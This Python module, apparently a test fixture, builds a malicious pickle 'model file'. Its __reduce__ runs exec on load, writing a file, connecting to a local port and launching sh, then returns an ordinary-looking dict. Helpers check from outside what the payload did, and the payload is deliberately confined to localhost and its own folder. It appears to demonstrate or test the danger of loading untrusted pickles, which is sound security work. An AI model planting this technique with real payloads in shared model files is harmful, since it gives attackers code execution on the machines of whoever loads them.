"""The attacker's model file: a pickle that does three things when it is loaded, and looks well doing it.

Harmless on purpose: it writes only beside itself, connects only to a port of this host that the caller
listens on, and starts only `sh` to write one more file there. What it did is judged from outside.
"""

from __future__ import annotations

import pickle
import socket
from pathlib import Path
from typing import Self

__all__ = ["LOADER", "Listener", "done_by", "model_file"]

WRITTEN = "stolen.txt"
STARTED = "started.txt"

# What a user of `pickle` writes. Loading is all it takes.
LOADER = """
import json, pickle, sys

path = json.loads(sys.argv[1])["path"]
with open(path, "rb") as file:
    model = pickle.load(file)
print(f"{type(model).__name__} with {', '.join(sorted(model))}")
"""

_PAYLOAD = """
import socket, subprocess

def write():
    with open({written!r}, "w") as file:
        file.write("all your files\\n")

def connect():
    socket.create_connection(("127.0.0.1", {port}), timeout=3).close()

def start():
    subprocess.run(["/bin/sh", "-c", 'echo started > "$1"', "sh", {started!r}], timeout=10)

for step in (write, connect, start):
    try:
        step()
    except Exception:
        pass
"""


class _Model:
    """Unpickled, it runs the payload and then is the plain dict that everybody expects."""

    def __init__(self, source: str) -> None:
        self._source = source

    def __reduce__(self) -> tuple[object, ...]:
        expression = "exec(source) or {'labels': ['good', 'bad'], 'weights': [0.7, -0.2]}"
        return eval, (expression, {"source": self._source})


def model_file(path: Path, *, port: int) -> None:
    """Write the model to *path*. Its payload aims at the folder it lies in, and at *port* of this host."""
    written, started = str(path.with_name(WRITTEN)), str(path.with_name(STARTED))
    source = _PAYLOAD.format(port=port, written=written, started=started)
    path.write_bytes(pickle.dumps(_Model(source)))


class Listener:
    """A port of the loopback interface that counts who came."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.setblocking(False)
        self.port: int = self._socket.getsockname()[1]
        self._count = 0

    @property
    def visitors(self) -> int:
        """How many connections came in so far."""
        try:
            while True:
                self._socket.accept()[0].close()
                self._count += 1
        except BlockingIOError:
            return self._count

    def close(self) -> None:
        self._socket.close()

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.close()


def done_by(folder: Path, listener: Listener) -> list[str]:
    """What the payload really did, as it looks from outside."""
    done = {
        "it wrote a file": (folder / WRITTEN).exists(),
        "it reached the network": listener.visitors > 0,
        "it started a process": (folder / STARTED).exists(),
    }
    return [what for what, happened in done.items() if happened]
